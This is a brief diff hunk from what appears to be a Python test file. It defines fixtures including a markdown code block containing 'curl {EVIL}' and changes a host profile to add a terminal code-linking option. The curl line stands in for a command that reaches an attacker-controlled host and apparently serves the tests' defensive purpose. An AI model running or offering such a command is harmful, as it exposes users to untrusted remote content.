@@ -49,7 +49,7 @@ echo Now
 curl {EVIL}
 ```"""
 OURS = "https://example.com/x"
-HOSTS = Profile(hosts=("example.com",))
+HOSTS = Profile(hosts=("example.com",), links_code=frozenset({"terminal"}))
 BO = Person("web", "bo", name="Bo")
 CSV = ("orders.csv", "text/csv", b"id,paid\n1,no\n")
 
